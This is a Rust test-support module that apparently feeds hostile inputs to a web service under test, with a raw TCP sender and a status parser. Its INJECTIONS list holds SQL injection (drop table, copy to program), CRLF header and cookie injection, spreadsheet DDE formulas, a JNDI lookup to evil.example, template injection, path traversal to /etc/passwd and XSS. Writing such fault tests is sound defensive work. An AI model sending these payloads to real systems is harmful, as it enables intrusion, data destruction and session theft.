//! What clients send who mean no good, and how: for the tests, and for rows of the fault suite.

pub mod bodies;
pub mod large;
pub mod slow;
pub mod smuggling;

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

/// Longer than any of these clients is borne.
pub(crate) const PATIENCE: Duration = Duration::from_secs(20);

/// What means something elsewhere: SQL, NATS subjects and protocol, lines of headers and logs, formulas of spreadsheets,
/// templates, paths, markup.
pub const INJECTIONS: [&str; 20] = [
    "'; drop table reviews; --",
    "$1); select pg_sleep(60); --",
    "\\'; copy reviews to program 'true'; --",
    "{\"$ne\":null}",
    "shop.> * >.a",
    "\r\nPUB atelier.reviews 5\r\nhello\r\n",
    "a\r\nSet-Cookie: atelier_session=stolen\r\n\r\n<html>",
    "2026-01-01T00:00:00Z ERROR writer: the store is damaged\n{\"level\":\"ERROR\"}",
    "\u{1b}[2J\u{1b}[31mred",
    "=HYPERLINK(\"https://evil.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} #{7*7} <%= 7*7 %>",
    "../../../../etc/passwd\\..\\..",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "%0d%0aX-Injected: 1 %00 %c0%ae",
    "\u{202e}txt.exe\u{2066}",
];

/// Every byte of a text as it may stand in a path or a query.
#[must_use]
pub fn percent_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// Sends these very bytes to `http://host:port`, and tells what came back until the other side closed, and after how
/// long.
///
/// # Errors
/// When nobody listens, or the connection is borne for ever.
pub async fn raw(url: &str, bytes: &[u8]) -> Result<(String, Duration), String> {
    let started = Instant::now();
    let mut stream = TcpStream::connect(url.trim_start_matches("http://"))
        .await
        .map_err(|error| format!("{url}: {error}"))?;
    let (mut reading, mut writing) = stream.split();
    let mut answer = Vec::new();
    let exchange = async {
        // Whoever refuses may close before it has read everything, and with a reset.
        let (_sent, _read) = tokio::join!(writing.write_all(bytes), reading.read_to_end(&mut answer));
    };
    if timeout(PATIENCE, exchange).await.is_err() {
        let beginning: String = String::from_utf8_lossy(bytes).chars().take(200).collect();
        return Err(format!("{url} did not close the connection in {PATIENCE:?}: {beginning:?}"));
    }
    Ok((String::from_utf8_lossy(&answer).into_owned(), started.elapsed()))
}

/// The statuses of all answers on a connection.
#[must_use]
pub fn statuses(answers: &str) -> Vec<u16> {
    let status = |part: &str| part.get(..3)?.parse().ok();
    answers.split("HTTP/1.1 ").skip(1).filter_map(status).collect()
}
